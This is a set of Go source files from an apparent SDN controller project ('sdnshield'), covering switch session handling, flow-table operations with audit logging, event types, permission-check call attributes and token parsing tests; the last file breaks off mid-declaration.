	k.mu.RLock()
	defer k.mu.RUnlock()
	h, ok := k.switches[dpid]
	if !ok {
		return nil, fmt.Errorf("%w: %v", ErrUnknownSwitch, dpid)
	}
	return h, nil
}

func (k *Kernel) recvLoop(h *swHandle) {
	defer close(h.done)
	defer close(h.events)
	defer k.teardown(h)
	for {
		msg, err := h.conn.Recv()
		if err != nil {
			return
		}
		// Correlated reply?
		h.mu.Lock()
		ch, waiting := h.pending[msg.XID()]
		if waiting {
			delete(h.pending, msg.XID())
		}
		h.mu.Unlock()
		if waiting {
			ch <- msg
			continue
		}
		// Hand the message to the dispatcher so handlers may perform
		// synchronous requests over this same connection.
		h.events <- msg
	}
}

// teardown tears a switch session down: it closes the connection, fails
// every pending synchronous request immediately (waiters observe
// h.closed) and, unless the kernel itself is stopping, forgets the
// switch and emits a topology event. Idempotent — it is reached from the
// receive loop on connection errors and from the probe loop on liveness
// failure, possibly concurrently.
func (k *Kernel) teardown(h *swHandle) {
	h.closeOnce.Do(func() {
		close(h.closed)
		mSessionTeardowns.Inc()
		mSwitchSessions.Add(-1)
		// Kernel shutdown tears every session down; only organic session
		// loss is an auditable security event.
		if !k.closed.Load() && audit.On() {
			audit.Emit(audit.Event{Kind: audit.KindSwitch, Verdict: audit.VerdictDisconnect, DPID: uint64(h.dpid)})
		}
	})
	h.conn.Close()
	// Drop the pending map so late replies cannot land on waiters that
	// already returned ErrSwitchDisconnected.
	h.mu.Lock()
	h.pending = make(map[uint32]chan of.Message)
	h.mu.Unlock()
	if k.closed.Load() {
		return
	}
	k.mu.Lock()
	if k.switches[h.dpid] != h {
		k.mu.Unlock()
		return
	}
	delete(k.switches, h.dpid)
	delete(k.shadow, h.dpid)
	k.mu.Unlock()
	k.topo.RemoveSwitch(h.dpid)
	k.emit(Event{Kind: EventTopology, TopoChange: &TopoChange{What: "switch-removed", DPID: h.dpid}})
}

// probeLoop sends periodic echo requests and declares the switch dead
// after ProbeMisses consecutive unanswered probes — the liveness
// protocol that turns a silently wedged switch into a clean teardown.
func (k *Kernel) probeLoop(h *swHandle) {
	defer close(h.probeDone)
	ticker := time.NewTicker(k.cfg.ProbeInterval)
	defer ticker.Stop()
	misses := 0
	for {
		select {
		case <-h.closed:
			return
		case <-ticker.C:
			msg := &of.EchoRequest{Header: of.Header{Xid: h.nextXID()}}
			mProbes.Inc()
			if _, err := k.requestOnce(h, msg, k.cfg.ProbeTimeout); err != nil {
				if errors.Is(err, ErrSwitchDisconnected) {
					return
				}
				misses++
				mProbeMisses.Inc()
				if misses >= k.cfg.ProbeMisses {
					k.teardown(h)
					return
				}
			} else {
				misses = 0
			}
		}
	}
}

// dispatchLoop runs the switch's asynchronous message handling.
func (k *Kernel) dispatchLoop(h *swHandle) {
	defer close(h.dispatchDone)
	for msg := range h.events {
		k.dispatch(h, msg)
	}
}

func (k *Kernel) dispatch(h *swHandle, msg of.Message) {
	switch m := msg.(type) {
	case *of.PacketIn:
		h.mu.Lock()
		h.buffers[m.BufferID] = true
		h.bufFIFO = append(h.bufFIFO, m.BufferID)
		for len(h.bufFIFO) > recentBuffers {
			delete(h.buffers, h.bufFIFO[0])
			h.bufFIFO = h.bufFIFO[1:]
		}
		h.mu.Unlock()
		k.emit(Event{Kind: EventPacketIn, PacketIn: m})
	case *of.FlowRemoved:
		// Mirror switch-initiated removals (timeouts) into the shadow
		// table, capturing the owner first so OWN_FLOWS event filters can
		// see it. Controller-initiated deletes already updated the shadow
		// when they were issued; re-deleting here could erase an entry
		// reinstalled in the meantime (e.g. a transaction rollback).
		k.mu.RLock()
		shadow := k.shadow[h.dpid]
		k.mu.RUnlock()
		var owner string
		key := removalKey(m.Match, m.Priority)
		h.mu.Lock()
		if pending, ok := h.pendingRemovals[key]; ok {
			owner = pending
			delete(h.pendingRemovals, key)
		}
		h.mu.Unlock()
		if shadow != nil {
			if owner == "" {
				owner, _ = shadow.OwnerOf(m.Match, m.Priority)
			}
			if m.Reason != of.RemovedDelete {
				shadow.Delete(m.Match, m.Priority, true)
			}
		}
		k.emit(Event{Kind: EventFlowRemoved, FlowRemoved: m, FlowOwner: owner})
	case *of.PortStatus:
		what := "port-up"
		if !m.Port.Up {
			what = "port-down"
		}
		k.emit(Event{Kind: EventPortStatus, PortStatus: m})
		k.emit(Event{Kind: EventTopology, TopoChange: &TopoChange{What: what, DPID: m.DPID, Port: m.Port.Port}})
	case *of.Error:
		k.emit(Event{Kind: EventError, Error: m})
	case *of.EchoRequest:
		_ = h.conn.Send(&of.EchoReply{Header: of.Header{Xid: m.Xid}, Data: m.Data})
	default:
		// Unsolicited replies (stats, barriers) without a waiter are
		// dropped.
	}
}

// emit fans an event out to its subscribers.
func (k *Kernel) emit(ev Event) {
	k.subMu.RLock()
	handlers := make([]Handler, 0, len(k.subs[ev.Kind]))
	for _, fn := range k.subs[ev.Kind] {
		handlers = append(handlers, fn)
	}
	k.subMu.RUnlock()
	for _, fn := range handlers {
		fn(ev)
	}
}

// Subscribe registers an event handler and returns its id.
func (k *Kernel) Subscribe(kind EventKind, fn Handler) int {
	k.subMu.Lock()
	defer k.subMu.Unlock()
	k.nextSub++
	id := k.nextSub
	if k.subs[kind] == nil {
		k.subs[kind] = make(map[int]Handler)
	}
	k.subs[kind][id] = fn
	return id
}

// Unsubscribe removes a handler by id.
func (k *Kernel) Unsubscribe(kind EventKind, id int) {
	k.subMu.Lock()
	defer k.subMu.Unlock()
	delete(k.subs[kind], id)
}

// request sends msg and blocks for the reply carrying the same xid,
// retrying timed-out attempts with exponential backoff and jitter up to
// MaxRetries times. Disconnects are never retried: the session is gone
// and the caller should fail fast.
func (k *Kernel) request(h *swHandle, msg of.Message) (of.Message, error) {
	t := obs.StartTimer()
	reply, err := k.requestOnce(h, msg, k.cfg.RequestTimeout)
	for attempt := 1; attempt <= k.cfg.MaxRetries && errors.Is(err, ErrTimeout); attempt++ {
		mRetries.Inc()
		select {
		case <-time.After(k.backoff(attempt)):
		case <-h.closed:
			mRequestDisconnects.Inc()
			return nil, ErrSwitchDisconnected
		}
		reply, err = k.requestOnce(h, msg, k.cfg.RequestTimeout)
	}
	mRequestSeconds.ObserveTimer(t)
	switch {
	case errors.Is(err, ErrTimeout):
		mRequestTimeouts.Inc()
		// Retries are exhausted: the switch is reachable but unresponsive,
		// which forensics should distinguish from a clean disconnect.
		if audit.On() {
			audit.Emit(audit.Event{
				Kind:    audit.KindSwitch,
				Verdict: audit.VerdictRetryExhausted,
				DPID:    uint64(h.dpid),
				Op:      fmt.Sprintf("%T", msg),
			})
		}
	case errors.Is(err, ErrSwitchDisconnected):
		mRequestDisconnects.Inc()
	}
	return reply, err
}

// backoff computes the jittered exponential delay before retry #attempt.
func (k *Kernel) backoff(attempt int) time.Duration {
	shift := attempt - 1
	if shift > 16 {
		shift = 16
	}
	d := k.cfg.RetryBackoff << shift
	if j := k.cfg.BackoffJitter; j > 0 {
		k.jmu.Lock()
		f := 1 + j*(2*k.jrand.Float64()-1)
		k.jmu.Unlock()
		d = time.Duration(float64(d) * f)
	}
	return d
}

// requestOnce performs one send/wait round trip. Reusing the message's
// xid across attempts is deliberate: a late reply to an earlier attempt
// satisfies the current one, and surplus replies are dropped by the
// dispatcher.
func (k *Kernel) requestOnce(h *swHandle, msg of.Message, timeout time.Duration) (of.Message, error) {
	select {
	case <-h.closed:
		return nil, ErrSwitchDisconnected
	default:
	}
	ch := make(chan of.Message, 1)
	h.mu.Lock()
	h.pending[msg.XID()] = ch
	h.mu.Unlock()
	unregister := func() {
		h.mu.Lock()
		delete(h.pending, msg.XID())
		h.mu.Unlock()
	}
	if err := h.conn.Send(msg); err != nil {
		unregister()
		return nil, fmt.Errorf("%w: %v", ErrSwitchDisconnected, err)
	}
	timer := time.NewTimer(timeout)
	defer timer.Stop()
	select {
	case reply := <-ch:
		return reply, nil
	case <-h.closed:
		unregister()
		return nil, ErrSwitchDisconnected
	case <-timer.C:
		unregister()
		return nil, ErrTimeout
	}
}

// ---------------------------------------------------------------------------
// Flow service

// FlowSpec names the parameters of a flow insertion/modification.
type FlowSpec struct {
	Match       *of.Match
	Priority    uint16
	Actions     []of.Action
	IdleTimeout uint16
	HardTimeout uint16
	Cookie      uint64
}

// InsertFlow installs a rule on a switch on behalf of owner, recording
// ownership in the kernel's shadow table.
func (k *Kernel) InsertFlow(owner string, dpid of.DPID, spec FlowSpec) error {
	return k.InsertFlowAs(Origin{App: owner}, dpid, spec)
}

// InsertFlowAs is InsertFlow carrying full call provenance: the flow-mod
// audit event records the app and correlation ID of the mediated call
// that produced it.
func (k *Kernel) InsertFlowAs(org Origin, dpid of.DPID, spec FlowSpec) error {
	owner := org.App
	t := obs.StartTimer()
	defer mOpInsert.ObserveTimer(t)
	h, err := k.handle(dpid)
	if err != nil {
		return err
	}
	k.mu.RLock()
	shadow := k.shadow[dpid]
	k.mu.RUnlock()
	if spec.Match == nil {
		spec.Match = of.NewMatch()
	}
	if err := shadow.Add(flowtable.Entry{
		Match:       spec.Match,
		Priority:    spec.Priority,
		Actions:     spec.Actions,
		Cookie:      spec.Cookie,
		Owner:       owner,
		IdleTimeout: spec.IdleTimeout,
		HardTimeout: spec.HardTimeout,
	}); err != nil {
		return err
	}
	if err := h.conn.Send(&of.FlowMod{
		Header:      of.Header{Xid: h.nextXID()},
		DPID:        dpid,
		Command:     of.FlowAdd,
		Match:       spec.Match,
		Priority:    spec.Priority,
		IdleTimeout: spec.IdleTimeout,
		HardTimeout: spec.HardTimeout,
		Cookie:      spec.Cookie,
		Actions:     spec.Actions,
	}); err != nil {
		// The rule never reached the switch; un-shadow it so ownership
		// state stays truthful across the disconnect.
		shadow.Delete(spec.Match, spec.Priority, true)
		auditWire(audit.KindFlowMod, org, "add", dpid, err)
		return fmt.Errorf("%w: %v", ErrSwitchDisconnected, err)
	}
	auditWire(audit.KindFlowMod, org, "add", dpid, nil)
	return nil
}

// ModifyFlow rewrites the actions of rules subsumed by the match.
func (k *Kernel) ModifyFlow(dpid of.DPID, match *of.Match, priority uint16, actions []of.Action) error {
	return k.ModifyFlowAs(Origin{}, dpid, match, priority, actions)
}

// ModifyFlowAs is ModifyFlow carrying call provenance for the flow-mod
// audit event.
func (k *Kernel) ModifyFlowAs(org Origin, dpid of.DPID, match *of.Match, priority uint16, actions []of.Action) error {
	t := obs.StartTimer()
	defer mOpModify.ObserveTimer(t)
	h, err := k.handle(dpid)
	if err != nil {
		return err
	}
	k.mu.RLock()
	shadow := k.shadow[dpid]
	k.mu.RUnlock()
	// Snapshot the affected entries so a failed send can restore them.
	prior := shadow.Entries(match)
	shadow.Modify(match, priority, false, actions)
	if err := h.conn.Send(&of.FlowMod{
		Header:   of.Header{Xid: h.nextXID()},
		DPID:     dpid,
		Command:  of.FlowModify,
		Match:    match,
		Priority: priority,
		Actions:  actions,
	}); err != nil {
		for _, e := range prior {
			shadow.Modify(e.Match, e.Priority, true, e.Actions)
		}
		auditWire(audit.KindFlowMod, org, "modify", dpid, err)
		return fmt.Errorf("%w: %v", ErrSwitchDisconnected, err)
	}
	auditWire(audit.KindFlowMod, org, "modify", dpid, nil)
	return nil
}

// DeleteFlow removes rules (non-strict semantics).
func (k *Kernel) DeleteFlow(dpid of.DPID, match *of.Match, priority uint16, strict bool) error {
	return k.DeleteFlowAs(Origin{}, dpid, match, priority, strict)
}

// DeleteFlowAs is DeleteFlow carrying call provenance for the flow-mod
// audit event.
func (k *Kernel) DeleteFlowAs(org Origin, dpid of.DPID, match *of.Match, priority uint16, strict bool) error {
	t := obs.StartTimer()
	defer mOpDelete.ObserveTimer(t)
	h, err := k.handle(dpid)
	if err != nil {
		return err
	}
	k.mu.RLock()
	shadow := k.shadow[dpid]
	k.mu.RUnlock()
	removed := shadow.Delete(match, priority, strict)
	h.mu.Lock()
	for _, e := range removed {
		h.pendingRemovals[removalKey(e.Match, e.Priority)] = e.Owner
	}
	// Bound the map against notifications that never arrive.
	if len(h.pendingRemovals) > 8192 {
		h.pendingRemovals = make(map[string]string)
	}
	h.mu.Unlock()
	cmd := of.FlowDelete
	if strict {
		cmd = of.FlowDeleteStrict
	}
	if err := h.conn.Send(&of.FlowMod{
		Header:   of.Header{Xid: h.nextXID()},
		DPID:     dpid,
		Command:  cmd,
		Match:    match,
		Priority: priority,
	}); err != nil {
		// The delete never reached the switch; restore the shadow so the
		// controller's view keeps matching the data plane.
		for _, e := range removed {
			_ = shadow.Add(*e)
		}
		h.mu.Lock()
		for _, e := range removed {
			delete(h.pendingRemovals, removalKey(e.Match, e.Priority))
		}
		h.mu.Unlock()
		auditWire(audit.KindFlowMod, org, "delete", dpid, err)
		return fmt.Errorf("%w: %v", ErrSwitchDisconnected, err)
	}
	auditWire(audit.KindFlowMod, org, "delete", dpid, nil)
	return nil
}

// Flows reads the shadow flow table (the controller's authoritative view
// of what each app installed).
func (k *Kernel) Flows(dpid of.DPID, match *of.Match) ([]*flowtable.Entry, error) {
	k.mu.RLock()
	shadow, ok := k.shadow[dpid]
	k.mu.RUnlock()
	if !ok {
		return nil, fmt.Errorf("%w: %v", ErrUnknownSwitch, dpid)
	}
	return shadow.Entries(match), nil
}

// ---------------------------------------------------------------------------
// Packet service

// SendPacketOut injects a packet via a switch. bufferID zero means the
// packet is supplied inline.
func (k *Kernel) SendPacketOut(dpid of.DPID, bufferID uint32, inPort uint16, actions []of.Action, pkt *of.Packet) error {
	return k.SendPacketOutAs(Origin{}, dpid, bufferID, inPort, actions, pkt)
}

// SendPacketOutAs is SendPacketOut carrying call provenance for the
// packet-out audit event.
func (k *Kernel) SendPacketOutAs(org Origin, dpid of.DPID, bufferID uint32, inPort uint16, actions []of.Action, pkt *of.Packet) error {
	t := obs.StartTimer()
	defer mOpPacketOut.ObserveTimer(t)
	h, err := k.handle(dpid)
	if err != nil {
		return err
	}
	if err := h.conn.Send(&of.PacketOut{
		Header:   of.Header{Xid: h.nextXID()},
		DPID:     dpid,
		InPort:   inPort,
		BufferID: bufferID,
		Actions:  actions,
		Packet:   pkt,
	}); err != nil {
		auditWire(audit.KindPacketOut, org, "packet_out", dpid, err)
		return fmt.Errorf("%w: %v", ErrSwitchDisconnected, err)
	}
	auditWire(audit.KindPacketOut, org, "packet_out", dpid, nil)
	return nil
}

// PacketInSeen reports whether the buffer id belongs to a recently
// delivered packet-in on the switch — the provenance witness used by
// FROM_PKT_IN checks.
func (k *Kernel) PacketInSeen(dpid of.DPID, bufferID uint32) bool {
	h, err := k.handle(dpid)
	if err != nil {
		return false
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.buffers[bufferID]
}

// ---------------------------------------------------------------------------
// Statistics service

// FlowStats queries per-flow counters from the switch.
func (k *Kernel) FlowStats(dpid of.DPID, match *of.Match) ([]of.FlowStatsEntry, error) {
	reply, err := k.statsRequest(dpid, of.StatsFlow, match, of.PortNone)
	if err != nil {
		return nil, err
	}
	return reply.Flows, nil
}

// PortStats queries per-port counters from the switch.
func (k *Kernel) PortStats(dpid of.DPID, port uint16) ([]of.PortStatsEntry, error) {
	reply, err := k.statsRequest(dpid, of.StatsPort, nil, port)
	if err != nil {
		return nil, err
	}
	return reply.Ports, nil
}

// SwitchStats queries switch-level aggregates.
func (k *Kernel) SwitchStats(dpid of.DPID) (of.SwitchStats, error) {
	reply, err := k.statsRequest(dpid, of.StatsSwitch, nil, of.PortNone)
	if err != nil {
		return of.SwitchStats{}, err
	}
	return reply.Switch, nil
}

func (k *Kernel) statsRequest(dpid of.DPID, kind of.StatsType, match *of.Match, port uint16) (*of.StatsReply, error) {
	h, err := k.handle(dpid)
	if err != nil {
		return nil, err
	}
	msg := &of.StatsRequest{
		Header: of.Header{Xid: h.nextXID()},
		DPID:   dpid,
		Kind:   kind,
		Match:  match,
		Port:   port,
	}
	reply, err := k.request(h, msg)
	if err != nil {
		return nil, err
	}
	sr, ok := reply.(*of.StatsReply)
	if !ok {
		if e, isErr := reply.(*of.Error); isErr {
			return nil, fmt.Errorf("controller: stats request: %s %s", e.Code, e.Message)
		}
		return nil, fmt.Errorf("controller: unexpected stats reply %T", reply)
	}
	return sr, nil
}

// Barrier synchronizes with a switch: it returns once every message sent
// before it has been processed.
func (k *Kernel) Barrier(dpid of.DPID) error {
	h, err := k.handle(dpid)
	if err != nil {
		return err
	}
	msg := &of.BarrierRequest{Header: of.Header{Xid: h.nextXID()}}
	reply, err := k.request(h, msg)
	if err != nil {
		return err
	}
	if _, ok := reply.(*of.BarrierReply); !ok {
		return fmt.Errorf("controller: unexpected barrier reply %T", reply)
	}
	return nil
}

// ---------------------------------------------------------------------------
// Topology service

// AddLink records a link in the controller's topology view and emits a
// topology event (modify_topology surface).
func (k *Kernel) AddLink(l topology.Link) error {
	if err := k.topo.AddLink(l); err != nil {
		return err
	}
	k.emit(Event{Kind: EventTopology, TopoChange: &TopoChange{What: "link-added", DPID: l.A, Peer: l.B}})
	return nil
}

// RemoveLink removes a link from the controller's view.
func (k *Kernel) RemoveLink(a, b of.DPID) {
	k.topo.RemoveLink(a, b)
	k.emit(Event{Kind: EventTopology, TopoChange: &TopoChange{What: "link-removed", DPID: a, Peer: b}})
}

// LearnHost records a host attachment (typically from an ARP packet-in).
func (k *Kernel) LearnHost(h topology.Host) {
	k.topo.AddHost(h)
}

// ---------------------------------------------------------------------------
// Model-driven data store (OpenDaylight-style northbound)

// Publish writes a value into the data model and notifies data-model
// subscribers, mirroring OpenDaylight's YANG data broker publication path
// that the ALTO scenario exercises (§IX-A).
func (k *Kernel) Publish(path string, value interface{}) {
	k.modelMu.Lock()
	k.model[path] = value
	k.modelMu.Unlock()
	k.emit(Event{Kind: EventDataModel, ModelPath: path, ModelValue: value})
}

// ReadModel reads a data-model node.
func (k *Kernel) ReadModel(path string) (interface{}, bool) {
	k.modelMu.RLock()
	defer k.modelMu.RUnlock()
	v, ok := k.model[path]
	return v, ok
}

// ---------------------------------------------------------------------------
// permengine.StateProvider

// FlowOwner resolves flow ownership from the shadow tables.
func (k *Kernel) FlowOwner(dpid of.DPID, match *of.Match, priority uint16) (string, bool) {
	k.mu.RLock()
	shadow, ok := k.shadow[dpid]
	k.mu.RUnlock()
	if !ok {
		return "", false
	}
	return shadow.OwnerOf(match, priority)
}

// ForeignFlowOwner reports the owner of a foreign rule an insert by app
// at the given priority would shadow, resolved allocation-free from the
// shadow tables.
func (k *Kernel) ForeignFlowOwner(app string, dpid of.DPID, match *of.Match, priority uint16) (string, bool) {
	k.mu.RLock()
	shadow, ok := k.shadow[dpid]
	k.mu.RUnlock()
	if !ok {
		return "", false
	}
	return shadow.ForeignOverlapOwner(app, match, priority)
}

// RuleCount counts an app's rules on a switch from the shadow tables.
func (k *Kernel) RuleCount(app string, dpid of.DPID) int {
	k.mu.RLock()
	shadow, ok := k.shadow[dpid]
	k.mu.RUnlock()
	if !ok {
		return 0
	}
	return shadow.CountByOwner(app)
}
