package controller

import "time"

// KernelConfig tunes the kernel's switch-session behavior: how long
// synchronous requests wait, how often they retry, and how aggressively
// the kernel probes switch liveness. The zero value reproduces the
// historical behavior (5 s timeout, no retries, no probes), so existing
// callers of New are unaffected.
type KernelConfig struct {
	// RequestTimeout bounds one attempt of a synchronous switch request
	// (stats, barrier) and the connection handshake. Default 5 s.
	RequestTimeout time.Duration

	// MaxRetries is how many times a timed-out request is re-issued
	// before ErrTimeout is surfaced. Disconnects are never retried — the
	// session is gone. Default 0.
	MaxRetries int

	// RetryBackoff is the delay before the first retry; it doubles on
	// each subsequent retry. Default 50 ms.
	RetryBackoff time.Duration

	// BackoffJitter randomizes each backoff by ±(jitter × backoff) to
	// de-synchronize retries across switches. Fraction in [0, 1].
	// Default 0.2; set negative to disable entirely.
	BackoffJitter float64

	// ProbeInterval enables echo-based liveness probing: every interval
	// the kernel sends an ECHO_REQUEST to each switch, and after
	// ProbeMisses consecutive unanswered probes the session is torn down
	// and pending requests fail immediately. 0 disables probing
	// (default).
	ProbeInterval time.Duration

	// ProbeTimeout bounds one probe's wait for its echo reply. Defaults
	// to RequestTimeout.
	ProbeTimeout time.Duration

	// ProbeMisses is how many consecutive probe timeouts declare a
	// switch dead. Default 3.
	ProbeMisses int

	// Seed makes backoff jitter reproducible. Default 1.
	Seed int64
}

// DefaultKernelConfig returns the filled default configuration.
func DefaultKernelConfig() KernelConfig {
	cfg := KernelConfig{}
	cfg.fill()
	return cfg
}

func (c *KernelConfig) fill() {
	if c.RequestTimeout <= 0 {
		c.RequestTimeout = 5 * time.Second
	}
	if c.MaxRetries < 0 {
		c.MaxRetries = 0
	}
	if c.RetryBackoff <= 0 {
		c.RetryBackoff = 50 * time.Millisecond
	}
	if c.BackoffJitter == 0 {
		c.BackoffJitter = 0.2
	}
	if c.BackoffJitter < 0 {
		c.BackoffJitter = 0
	}
	if c.ProbeTimeout <= 0 {
		c.ProbeTimeout = c.RequestTimeout
	}
	if c.ProbeMisses <= 0 {
		c.ProbeMisses = 3
	}
	if c.Seed == 0 {
		c.Seed = 1
	}
}
