package controller

import (
	"fmt"

	"sdnshield/internal/of"
)

// EventKind classifies northbound event notifications. Each kind maps to
// the SDNShield event permission token guarding its delivery.
type EventKind int

// Event kinds.
const (
	// EventPacketIn delivers a data-plane packet (pkt_in_event token; the
	// packet payload additionally requires read_payload).
	EventPacketIn EventKind = iota + 1
	// EventFlowRemoved reports a flow leaving a table (flow_event token).
	EventFlowRemoved
	// EventPortStatus reports a port change (topology_event token).
	EventPortStatus
	// EventTopology reports a link/switch change in the controller's
	// topology view (topology_event token).
	EventTopology
	// EventError reports a switch error message (error_event token).
	EventError
	// EventDataModel reports a data-model publication, the
	// OpenDaylight-style model-driven notification the ALTO scenario uses
	// (flow_event token is not required; subscription is mediated by the
	// publishing path's own token, see DataModel).
	EventDataModel
)

// String names the kind.
func (k EventKind) String() string {
	switch k {
	case EventPacketIn:
		return "packet-in"
	case EventFlowRemoved:
		return "flow-removed"
	case EventPortStatus:
		return "port-status"
	case EventTopology:
		return "topology"
	case EventError:
		return "error"
	case EventDataModel:
		return "data-model"
	default:
		return fmt.Sprintf("event(%d)", int(k))
	}
}

// Event is one northbound notification. Exactly the field matching Kind
// is populated.
type Event struct {
	Kind EventKind

	PacketIn    *of.PacketIn
	FlowRemoved *of.FlowRemoved
	PortStatus  *of.PortStatus
	Error       *of.Error

	// FlowOwner is the owner of the removed flow (FlowRemoved events),
	// resolved from the shadow table before the removal was mirrored.
	FlowOwner string

	// TopoChange describes a topology event.
	TopoChange *TopoChange

	// ModelPath and ModelValue carry a data-model publication.
	ModelPath  string
	ModelValue interface{}
}

// TopoChange describes one controller-view topology mutation.
type TopoChange struct {
	// What is "switch-added", "switch-removed", "link-added",
	// "link-removed", "port-up", "port-down".
	What string
	DPID of.DPID
	Peer of.DPID
	Port uint16
}

// Handler consumes events. Handlers run on the kernel's dispatch
// goroutine in the baseline (monolithic) architecture and on the app's
// container goroutine under SDNShield isolation.
type Handler func(Event)
