package core

import (
	"fmt"

	"sdnshield/internal/of"
)

// LinkID names an undirected link between two switches, canonicalized so
// that A <= B.
type LinkID struct {
	A, B of.DPID
}

// NewLinkID builds a canonical LinkID from two endpoints in any order.
func NewLinkID(a, b of.DPID) LinkID {
	if a > b {
		a, b = b, a
	}
	return LinkID{A: a, B: b}
}

// String renders the link as "a-b".
func (l LinkID) String() string {
	return fmt.Sprintf("%d-%d", uint64(l.A), uint64(l.B))
}

// CallbackOp describes how an app interacts with an event notification,
// inspected by callback filters.
type CallbackOp uint8

// Callback operations.
const (
	// CallbackObserve is plain delivery of the event to the app.
	CallbackObserve CallbackOp = iota + 1
	// CallbackIntercept consumes the event, hiding it from later apps.
	CallbackIntercept
	// CallbackReorder alters the delivery order of pending events.
	CallbackReorder
)

// String names the callback operation.
func (o CallbackOp) String() string {
	switch o {
	case CallbackObserve:
		return "OBSERVE"
	case CallbackIntercept:
		return "EVENT_INTERCEPTION"
	case CallbackReorder:
		return "MODIFY_EVENT_ORDER"
	default:
		return fmt.Sprintf("CALLBACK(%d)", uint8(o))
	}
}

// Call is the permission engine's view of one mediated API invocation: the
// caller identity, the token the API requires, and every runtime attribute
// a filter may inspect (§IV: "we use the term attribute to refer to any of
// the runtime arguments or context of an API call").
//
// Stateful context (who owns the affected flow, how many rules the app
// already holds on the switch) is resolved by the permission engine before
// the check and carried here, keeping filters pure.
type Call struct {
	// App is the calling app's identity.
	App string
	// Token is the permission the API call requires.
	Token Token
	// Corr is the correlation ID minted at the mediated-call boundary;
	// it links this check's audit event to the switch-side effects of the
	// same call. Zero for kernel-originated checks with no call context.
	Corr uint64

	// DPID is the target switch, when the call addresses one.
	DPID of.DPID
	// HasDPID reports whether DPID is meaningful.
	HasDPID bool

	// Match is the flow predicate of flow-table and flow-stats calls.
	Match *of.Match
	// Actions is the action list of flow-mod and packet-out calls.
	Actions []of.Action
	// Priority is the rule priority of flow-mod calls.
	Priority uint16
	// HasPriority reports whether Priority is meaningful.
	HasPriority bool
	// RuleCount is the number of rules the app already holds on the target
	// switch, for the table-size filter.
	RuleCount int
	// HasRuleCount reports whether RuleCount is meaningful.
	HasRuleCount bool
	// FlowOwner is the app owning the flow the call reads/modifies/deletes.
	// Empty means the call creates a new flow or the owner is unknown.
	FlowOwner string
	// HasFlowOwner reports whether FlowOwner is meaningful.
	HasFlowOwner bool

	// FromPktIn reports whether a packet-out call forwards a buffered
	// packet-in payload rather than fabricated content.
	FromPktIn bool
	// HasProvenance reports whether FromPktIn is meaningful.
	HasProvenance bool

	// StatsLevel is the requested statistics granularity.
	StatsLevel of.StatsType
	// Switches lists the topology switches the call touches.
	Switches []of.DPID
	// Links lists the topology links the call touches.
	Links []LinkID

	// HostIP and HostPort describe host-network syscalls (connect/listen
	// outside the control channel).
	HostIP of.IPv4
	// HostPort is the remote transport port of a host-network syscall.
	HostPort uint16
	// HasHostIP reports whether HostIP/HostPort are meaningful.
	HasHostIP bool
	// Path is the target of file-system syscalls.
	Path string

	// Event is how the app interacts with an event notification.
	Event CallbackOp
}

// FieldValue exposes the call attribute addressed by a match field, if
// present. Flow predicates take priority; host-network destinations map
// onto IP_DST/TCP_DST so that the paper's
// "network_access LIMITING IP_DST ..." filters work unchanged.
func (c *Call) FieldValue(f of.Field) (value, mask uint64, ok bool) {
	if c.Match != nil {
		v, m := c.Match.Get(f)
		if m != 0 {
			return v, m, true
		}
		return 0, 0, true // field present but wildcarded
	}
	if c.HasHostIP {
		switch f {
		case of.FieldIPDst:
			return uint64(c.HostIP), of.FullMask(f), true
		case of.FieldTPDst:
			return uint64(c.HostPort), of.FullMask(f), true
		}
	}
	return 0, 0, false
}

// String renders a concise description for permission-denied errors.
func (c *Call) String() string {
	s := fmt.Sprintf("%s[%s]", c.Token, c.App)
	if c.HasDPID {
		s += fmt.Sprintf(" dpid=%d", uint64(c.DPID))
	}
	if c.Match != nil {
		s += " " + c.Match.String()
	}
	if len(c.Actions) > 0 {
		s += " actions=" + of.ActionsString(c.Actions)
	}
	if c.HasHostIP {
		s += fmt.Sprintf(" host=%s:%d", c.HostIP, c.HostPort)
	}
	return s
}
