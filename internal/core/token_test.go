package core

import "testing"

func TestParseToken(t *testing.T) {
	tests := []struct {
		in   string
		want Token
		ok   bool
	}{
		{"insert_flow", TokenInsertFlow, true},
		{"read_flow_table", TokenReadFlowTable, true},
		{"INSERT_FLOW", TokenInsertFlow, true},
		{"  visible_topology ", TokenVisibleTopology, true},
		// Paper alias spellings.
		{"network_access", TokenHostNetwork, true},
		{"send_packet_out", TokenSendPktOut, true},
		{"read_topology", TokenVisibleTopology, true},
		{"nonsense", 0, false},
	}
	for _, tt := range tests {
		got, ok := ParseToken(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("ParseToken(%q) = (%v,%v), want (%v,%v)", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

func TestTokenRoundTrip(t *testing.T) {
	for _, tok := range AllTokens() {
		if !tok.Valid() {
			t.Errorf("token %d invalid", tok)
		}
		got, ok := ParseToken(tok.String())
		if !ok || got != tok {
			t.Errorf("round trip failed for %v", tok)
		}
	}
	if len(AllTokens()) != NumTokens {
		t.Errorf("AllTokens length %d != NumTokens %d", len(AllTokens()), NumTokens)
	}
}

func TestTokenClassification(t *testing.T) {
	tests := []struct {
		tok      Token
		resource ResourceClass
		kind     ActionKind
	}{
		{TokenReadFlowTable, ResourceFlowTable, ActionRead},
		{TokenInsertFlow, ResourceFlowTable, ActionWrite},
		{TokenFlowEvent, ResourceFlowTable, ActionEvent},
		{TokenVisibleTopology, ResourceTopology, ActionRead},
		{TokenModifyTopology, ResourceTopology, ActionWrite},
		{TokenReadStatistics, ResourceStatistics, ActionRead},
		{TokenErrorEvent, ResourceStatistics, ActionEvent},
		{TokenReadPayload, ResourcePacket, ActionRead},
		{TokenSendPktOut, ResourcePacket, ActionWrite},
		{TokenPktInEvent, ResourcePacket, ActionEvent},
		{TokenHostNetwork, ResourceHostSystem, ActionWrite},
		{TokenFileSystem, ResourceHostSystem, ActionWrite},
	}
	for _, tt := range tests {
		if got := tt.tok.Resource(); got != tt.resource {
			t.Errorf("%v.Resource() = %v, want %v", tt.tok, got, tt.resource)
		}
		if got := tt.tok.Kind(); got != tt.kind {
			t.Errorf("%v.Kind() = %v, want %v", tt.tok, got, tt.kind)
		}
	}
	// Every token must be classified.
	for _, tok := range AllTokens() {
		if tok.Resource() == 0 {
			t.Errorf("%v has no resource class", tok)
		}
		if tok.Kind() == 0 {
			t.Errorf("%v has no action kind", tok)
		}
	}
}
