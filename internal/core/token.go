package core

import (
	"fmt"
	"strings"
)

// Token is a coarse-grained permission token (Table II): one privilege an
// app either holds or does not hold, optionally refined by filters.
type Token uint8

// Permission tokens. They are designed orthogonally: no token implies any
// other.
const (
	// Flow-table resource.
